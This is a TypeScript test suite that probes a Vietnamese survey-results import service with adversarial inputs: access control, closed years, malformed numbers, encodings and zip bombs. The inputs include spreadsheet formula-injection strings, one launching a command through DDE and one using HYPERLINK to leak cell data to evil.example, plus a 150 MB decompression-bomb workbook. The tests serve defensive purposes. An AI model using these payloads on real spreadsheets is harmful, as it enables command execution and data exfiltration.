/**
 * Adversarial audit of the survey import: who imports into which year, closed years, units of
 * another province, hostile values and files (bombs, encodings, echoes), all-or-nothing, and
 * whether the ranking read after an import shows it.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Role } from '../../../platform/auth/roles';
import { insertUnit, OrgUnitKind } from '../../../testing/fixtures';
import { TEST_DB_KIND } from '../../../testing/test-database';
import { hugeCellSheet, rezipWithSheet, tallSheet } from '../../../testing/xlsx-bomb';
import { startTestSystem, type GraphQLResponse, type TestSystem } from '../../../testing/test-system';
import type { OrgUnitEntity } from '../../org/org-unit/org-unit.entity';
import { AssessmentYearEntity, GovernmentModel, YearStatus } from '../assessment-year/assessment-year.entity';
import { AuditEventEntity } from '../audit/audit-event.entity';
import { UnitResultEntity } from '../results/unit-result.entity';
import { RosterEntryEntity } from '../roster/roster-entry.entity';
import { ScoreEntryEntity } from '../score-sheet/score-entry.entity';
import { ScoreSheetEntity } from '../score-sheet/score-sheet.entity';
import { insertCriteria, insertGroup, insertRoster, insertYear, TEST_CRITERIA } from '../score-sheet/year-setup-test-kit';
import { createSheetsForYear } from '../score-sheet/sheet-creation';
import { AssessorRule, type UnitGroupEntity } from '../unit-group/unit-group.entity';
import { MAX_SURVEY_ROWS } from './survey-import';

const PREVIEW = `query($y: ID!, $b: String!, $f: SurveyFileFormat!) { surveyImportPreview(yearId: $y, base64: $b, format: $f) {
  rowCount validCount canApply issues { row code message } rows { row unitCode points } } }`;
const APPLY = `mutation($y: ID!, $b: String!, $f: SurveyFileFormat!) { importSurveyResults(yearId: $y, base64: $b, format: $f) {
  imported changed sheetsUpdated } }`;
const TEMPLATE = `query($y: ID!) { surveyImportTemplate(yearId: $y) { base64 } }`;
const RANKING = `query($y: ID!, $g: ID!) { ranking(yearId: $y, groupId: $g) { rows { unitName rank index totals { surveyPoints } } } }`;

type Preview = {
  rowCount: number;
  validCount: number;
  canApply: boolean;
  issues: { row: number | null; code: string; message: string }[];
  rows: { row: number; unitCode: string; points: number }[];
};
type RankingRow = { unitName: string; rank: number | null; index: number | null; totals: { surveyPoints: number | null } };

const csv = (lines: string[], header = 'Mã đơn vị;Mã tiêu chí;Giá trị') => Buffer.from([header, ...lines].join('\n')).toString('base64');

describe(`survey import under attack (${TEST_DB_KIND})`, () => {
  let system: TestSystem;
  let province: OrgUnitEntity;
  let year: AssessmentYearEntity;
  let group: UnitGroupEntity;
  let otherYear: AssessmentYearEntity;
  const communes: OrgUnitEntity[] = [];
  const tokens: Record<string, string> = {};
  const code = (res: GraphQLResponse<unknown>) => res.errors?.[0]?.extensions?.code ?? null;
  const preview = (b: string, token = tokens.admin, f = 'CSV', y = year.id) =>
    system.gql<{ surveyImportPreview: Preview }>(PREVIEW, { y, b, f }, { token });
  const apply = (b: string, token = tokens.admin, f = 'CSV', y = year.id) =>
    system.gql<{ importSurveyResults: { imported: number; changed: number; sheetsUpdated: number } }>(APPLY, { y, b, f }, { token });
  const setYear = (status: YearStatus) => system.scoringDb.getRepository(AssessmentYearEntity).update({ id: year.id }, { status });

  async function snapshot() {
    const db = system.scoringDb;
    const entries = await db.getRepository(ScoreEntryEntity).find({ order: { id: 'ASC' } });
    const sheets = await db.getRepository(ScoreSheetEntity).find({ order: { id: 'ASC' } });
    const results = await db.getRepository(UnitResultEntity).find({ order: { unitId: 'ASC' } });
    return {
      entries: entries.map((e) => [e.id, e.declaredValue, e.surveyPoints]),
      audits: await db.getRepository(AuditEventEntity).count(),
      sheets: sheets.map((s) => [s.id, s.version]),
      results: results.map((r) => [r.unitId, r.index, r.selfIndex, r.surveyPoints]),
    };
  }

  beforeAll(async () => {
    system = await startTestSystem();
    province = await insertUnit(system.orgDb, { name: 'Tỉnh Quảng Ninh', kind: OrgUnitKind.PROVINCE, code: '22', subtype: 'tỉnh' });
    const district = await insertUnit(system.orgDb, {
      name: 'Thành phố Đông Triều',
      kind: OrgUnitKind.DISTRICT,
      code: '205',
      subtype: 'thành phố',
      parent: province,
    });
    for (const [i, name] of ['Xã An Sinh', 'Xã Bình Khê', 'Xã Tràng Lương'].entries())
      communes.push(await insertUnit(system.orgDb, { name, kind: OrgUnitKind.COMMUNE, code: `0712${i}`, subtype: 'xã', parent: district }));
    year = await insertYear(system.scoringDb, {
      provinceUnitId: province.id,
      year: 2024,
      model: GovernmentModel.THREE_LEVEL,
      status: YearStatus.APPRAISAL,
    });
    group = await insertGroup(system.scoringDb, year.id, {
      code: 'XA',
      name: 'Khối xã',
      rule: AssessorRule.PARENT_DISTRICT,
      kinds: [OrgUnitKind.COMMUNE],
    });
    await insertCriteria(system.scoringDb, year.id, group.id, TEST_CRITERIA);
    await insertRoster(
      system.scoringDb,
      year.id,
      group,
      { id: district.id, name: district.name },
      communes.map((u) => ({ id: u.id, name: u.name, code: u.code, kind: u.kind, subtype: u.subtype })),
      { parentDistrictId: () => district.id },
    );
    await createSheetsForYear(system.scoringDb, year.id);

    // Another province, its own year and roster (a commune with its own code, and one whose code
    // is the same as a Quảng Ninh commune's: codes are only unique within a year's roster).
    const other = await insertUnit(system.orgDb, { name: 'Tỉnh Bắc Ninh', kind: OrgUnitKind.PROVINCE, code: '27', subtype: 'tỉnh' });
    const otherCommune = await insertUnit(system.orgDb, {
      name: 'Xã Tam Đa',
      kind: OrgUnitKind.COMMUNE,
      code: '09001',
      subtype: 'xã',
      parent: other,
    });
    otherYear = await insertYear(system.scoringDb, {
      provinceUnitId: other.id,
      year: 2024,
      model: GovernmentModel.TWO_LEVEL,
      status: YearStatus.SELF_ASSESSMENT,
    });
    const otherGroup = await insertGroup(system.scoringDb, otherYear.id, {
      code: 'XA',
      name: 'Khối xã',
      rule: AssessorRule.PROVINCE,
      kinds: [OrgUnitKind.COMMUNE],
    });
    await insertCriteria(system.scoringDb, otherYear.id, otherGroup.id, TEST_CRITERIA);
    await insertRoster(system.scoringDb, otherYear.id, otherGroup, { id: other.id, name: other.name }, [
      { id: otherCommune.id, name: otherCommune.name, code: otherCommune.code, kind: otherCommune.kind, subtype: otherCommune.subtype },
    ]);
    await createSheetsForYear(system.scoringDb, otherYear.id);

    const user = async (username: string, unitId: string, roles: Role[]) =>
      (tokens[username] = (await system.createUser({ username: `sv.${username}`, unitId, roles })).token);
    await user('admin', province.id, [Role.PROVINCE_ADMIN]);
    await user('viewer', province.id, [Role.VIEWER]);
    await user('chair', province.id, [Role.ASSESSOR_CHAIR]);
    await user('officer', communes[0].id, [Role.UNIT_OFFICER, Role.UNIT_HEAD]);
    await user('otherAdmin', other.id, [Role.PROVINCE_ADMIN]);
  });
  afterAll(() => system?.stop());

  it('nobody but the year’s own province administrator imports, previews or downloads the template; an app neither', async () => {
    const before = await snapshot();
    const file = csv(['07120;3.1;80']);
    for (const who of ['viewer', 'chair', 'officer', 'otherAdmin']) {
      expect([who, code(await preview(file, tokens[who]))]).toEqual([who, 'FORBIDDEN']);
      expect([who, code(await apply(file, tokens[who]))]).toEqual([who, 'FORBIDDEN']);
      expect([who, code(await system.gql(TEMPLATE, { y: year.id }, { token: tokens[who] }))]).toEqual([who, 'FORBIDDEN']);
    }
    // The other province's administrator, on his own year, cannot reach this province's units.
    const cross = await preview(csv(['07120;3.1;80', '09001;3.1;80']), tokens.otherAdmin, 'CSV', otherYear.id);
    expect(cross.data!.surveyImportPreview.issues.map((i) => [i.row, i.code])).toEqual([[2, 'UNKNOWN_UNIT']]);
    expect(code(await apply(csv(['07120;3.1;80']), tokens.otherAdmin, 'CSV', otherYear.id))).toBe('BAD_USER_INPUT');
    // And this province's administrator cannot import into the other province's year.
    expect(code(await apply(csv(['09001;3.1;80']), tokens.admin, 'CSV', otherYear.id))).toBe('FORBIDDEN');
    const key = (
      await system.gql<{ createApiClient: { key: string } }>(
        'mutation { createApiClient(input: { name: "Cổng dữ liệu" }) { key } }',
        {},
        { token: tokens.admin },
      )
    ).data!.createApiClient.key;
    const app = await system.gql(APPLY, { y: year.id, b: file, f: 'CSV' }, { headers: { 'x-api-key': key } });
    expect(code(app)).toBe('FORBIDDEN');
    expect(code(await system.gql(APPLY, { y: year.id, b: file, f: 'CSV' }))).toBe('UNAUTHENTICATED');
    expect(await snapshot()).toEqual(before);
  });

  it('a year not open (planning, finalized, published) refuses import, preview and template, in Vietnamese, writing nothing', async () => {
    const before = await snapshot();
    const file = csv(['07120;3.1;80']);
    try {
      for (const status of [YearStatus.PLANNING, YearStatus.FINALIZED, YearStatus.PUBLISHED]) {
        await setYear(status);
        for (const res of [await apply(file), await preview(file), await system.gql(TEMPLATE, { y: year.id }, { token: tokens.admin })]) {
          expect([status, code(res), res.errors?.[0]?.extensions?.reason]).toEqual([status, 'CONFLICT', 'YEAR_STATUS']);
          expect(res.errors?.[0]?.message).toMatch(/^Kỳ đánh giá (chưa mở|đã chốt kết quả)/);
        }
      }
    } finally {
      await setYear(YearStatus.APPRAISAL);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('a year finalized between the file check and the write wins: the import is refused under the year lock, nothing written', async () => {
    const before = await snapshot();
    const db = system.scoringDb;
    const original = db.transaction.bind(db);
    // Another administrator's finalization commits just as this import opens its transaction.
    db.transaction = (async (...args: unknown[]) => {
      db.transaction = original;
      await db.getRepository(AssessmentYearEntity).update({ id: year.id }, { status: YearStatus.FINALIZED });
      return (original as (...a: unknown[]) => Promise<unknown>)(...args);
    }) as typeof db.transaction;
    try {
      const res = await apply(csv(['07120;3.1;80']));
      expect([code(res), res.errors?.[0]?.extensions?.reason]).toEqual(['CONFLICT', 'YEAR_STATUS']);
      expect(res.errors?.[0]?.message).toBe('Kỳ đánh giá đã chốt kết quả, không thể nhập kết quả điều tra.');
    } finally {
      db.transaction = original;
      await setYear(YearStatus.APPRAISAL);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('hostile values — NaN, Infinity, negative, over the maximum, exponents, hex, formulas, odd digits — are row errors, nothing written', async () => {
    const before = await snapshot();
    const values = [
      'NaN',
      'Infinity',
      '-Infinity',
      '-1',
      '-0,01',
      '100,01',
      '101',
      '1e400',
      '0x50',
      '80%',
      '=1+1',
      '=HYPERLINK("http://x";"y")',
      '@SUM(A1)',
      '８０',
      '٨٠',
      '80,5,5',
      '1 000',
      '85,555',
      '9'.repeat(400),
    ];
    // One unit per row would be a duplicate: spread them over the three communes' survey leaf, one file each.
    for (const value of values) {
      const res = await preview(csv([`07120;3.1;${value}`]));
      expect(res.errors).toBeUndefined();
      const p = res.data!.surveyImportPreview;
      expect([value, p.canApply, p.issues.map((i) => i.code)]).toEqual([value, false, ['INVALID_VALUE']]);
      expect(p.issues[0].message).toMatch(/^Dòng 2: /);
      const applied = await apply(csv([`07120;3.1;${value}`]));
      expect([value, code(applied)]).toEqual([value, 'BAD_USER_INPUT']);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('formula-like and enormous codes are reported without echoing megabytes back', async () => {
    const huge = 'A'.repeat(500_000);
    const res = await preview(csv([`${huge};3.1;80`, `=cmd|' /C calc'!A0;3.1;80`, `07120;${huge};80`]));
    expect(res.errors).toBeUndefined();
    const issues = res.data!.surveyImportPreview.issues;
    expect(issues.map((i) => [i.row, i.code])).toEqual([
      [2, 'UNKNOWN_UNIT'],
      [3, 'UNKNOWN_UNIT'],
      [4, 'NOT_SURVEY_CRITERION'],
    ]);
    for (const issue of issues) expect(issue.message.length).toBeLessThan(300);
    const applied = await apply(csv([`${huge};3.1;80`]));
    expect(code(applied)).toBe('BAD_USER_INPUT');
    expect(JSON.stringify(applied).length).toBeLessThan(5000);
  });

  it('duplicates under another spelling of the same unit and criterion are caught; codes are not matched loosely', async () => {
    const res = await preview(csv(['07120;3.1;80', ' 07120 ; 3.1 ;70', '7120;3.1;70', '"07120";"3.1";60']));
    expect(res.data!.surveyImportPreview.issues.map((i) => [i.row, i.code])).toEqual([
      [3, 'DUPLICATE_ROW'],
      [4, 'UNKNOWN_UNIT'],
      [5, 'DUPLICATE_ROW'],
    ]);
  });

  it('encodings: a UTF-8 BOM, a Windows (cp1258) CSV and a UTF-16 “Unicode text” export read the same rows', async () => {
    const lines = ['Mã đơn vị;Mã tiêu chí;Giá trị', '07120;3.1;80', '07121;3.1;70,5'];
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(lines.join('\r\n'))]);
    // "Mã đơn vị" as Excel on a Vietnamese Windows saves it: a, combining tilde (0xDE), đ = 0xF0, ơ = 0xF5.
    const cp1258 = Buffer.concat([
      Buffer.from([0x4d, 0x61, 0xde, 0x20, 0xf0, 0xf5, 0x6e, 0x20, 0x76, 0xd2, 0x3b]),
      Buffer.from('Ma tieu chi;Gia tri\r\n07120;3.1;80\r\n07121;3.1;70,5\r\n', 'latin1'),
    ]);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(lines.join('\r\n').replace(/;/g, '\t'), 'utf16le')]);
    for (const [name, file] of [
      ['bom', bom],
      ['cp1258', cp1258],
      ['utf16', utf16],
    ] as const) {
      const res = await preview(file.toString('base64'));
      expect(res.errors).toBeUndefined();
      const p = res.data!.surveyImportPreview;
      expect([name, p.issues]).toEqual([name, []]);
      expect([name, p.rows.map((r) => [r.unitCode, r.points])]).toEqual([
        name,
        [
          ['07120', 24],
          ['07121', 21.15],
        ],
      ]);
    }
  });

  it('too many rows is one file-level issue; a decompression bomb or a sheet of millions of rows is refused before it is expanded', async () => {
    const many = csv(Array.from({ length: MAX_SURVEY_ROWS + 1 }, (_, i) => `U${i};3.1;80`));
    const res = await preview(many);
    expect(res.errors).toBeUndefined();
    expect(res.data!.surveyImportPreview.issues).toEqual([expect.objectContaining({ row: null, code: 'TOO_MANY_ROWS' })]);

    // A valid workbook whose sheet XML holds one 150 MB cell: ~150 KB zipped.
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Dieu tra').addRow(['07120', '3.1', 80]);
    const small = Buffer.from(await workbook.xlsx.writeBuffer());
    const bomb = rezipWithSheet(small, hugeCellSheet(150 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const started = process.cpuUsage();
    const refused = await preview(bomb.toString('base64'), tokens.admin, 'XLSX');
    expect(refused.errors).toBeUndefined();
    expect(refused.data!.surveyImportPreview.issues).toEqual([expect.objectContaining({ row: null, code: 'FILE_UNREADABLE' })]);
    expect(refused.data!.surveyImportPreview.issues[0].message).toMatch(/giải nén/);
    // Many short rows, each numbered: over the row limit, refused without building them.
    const tall = rezipWithSheet(small, tallSheet(MAX_SURVEY_ROWS + 2000));
    const tooTall = await preview(tall.toString('base64'), tokens.admin, 'XLSX');
    expect(tooTall.data!.surveyImportPreview.issues).toEqual([expect.objectContaining({ row: null, code: 'TOO_MANY_ROWS' })]);
    // Counted in the zip, before the workbook reader built a row.
    expect(tooTall.data!.surveyImportPreview.issues[0].message).toMatch(/tính cả các trang tính khác/);
    const used = process.cpuUsage(started);
    expect(used.user + used.system).toBeLessThan(10_000_000); // generous: the refusal does not parse 150 MB of XML
    // The real file still reads.
    expect((await preview(small.toString('base64'), tokens.admin, 'XLSX')).data!.surveyImportPreview.issues).toEqual([]);
  });

  it('the template writes a roster name that looks like a formula as text, never as a formula', async () => {
    await system.scoringDb.getRepository(RosterEntryEntity).update(
      { yearId: year.id, unitId: communes[2].id },
      {
        unitName: '=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")',
      },
    );
    try {
      const res = await system.gql<{ surveyImportTemplate: { base64: string } }>(TEMPLATE, { y: year.id }, { token: tokens.admin });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(res.data!.surveyImportTemplate.base64, 'base64') as unknown as ArrayBuffer);
      const cells: ExcelJS.Cell[] = [];
      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell)));
      expect(cells.some((c) => String(c.value).startsWith('=HYPERLINK'))).toBe(true);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    } finally {
      await system.scoringDb
        .getRepository(RosterEntryEntity)
        .update({ yearId: year.id, unitId: communes[2].id }, { unitName: 'Xã Tràng Lương' });
    }
  });

  it('the ranking read after an import shows the new survey points, index and ranks (cache included)', async () => {
    // Appraisal complete with nothing scored: the survey part alone decides the index and rank.
    await system.scoringDb.getRepository(ScoreSheetEntity).update({ yearId: year.id }, { status: 'APPRAISED' });
    expect(
      code(
        await system.gql(
          'mutation($y: ID!) { recomputeYearResults(yearId: $y, dryRun: false) { written } }',
          { y: year.id },
          { token: tokens.admin },
        ),
      ),
    ).toBeNull();
    const read = async () => {
      const res = await system.gql<{ ranking: { rows: RankingRow[] } }>(RANKING, { y: year.id, g: group.id }, { token: tokens.admin });
      expect(res.errors).toBeUndefined();
      return res.data!.ranking.rows.map((r) => [r.unitName, r.rank, r.index, r.totals.surveyPoints]);
    };
    const before = await read();
    expect(before.map((r) => r[1])).toEqual([1, 1, 1]);
    const res = await apply(csv(['07120;3.1;50', '07121;3.1;90', '07122;3.1;70']));
    expect(res.errors).toBeUndefined();
    expect(await read()).toEqual([
      ['Xã Bình Khê', 1, 27, 27],
      ['Xã Tràng Lương', 2, 21, 21],
      ['Xã An Sinh', 3, 15, 15],
    ]);
    // A second import moves them again, through the same cached ranking.
    expect((await apply(csv(['07120;3.1;100']))).errors).toBeUndefined();
    expect((await read())[0]).toEqual(['Xã An Sinh', 1, 30, 30]);
  });
});
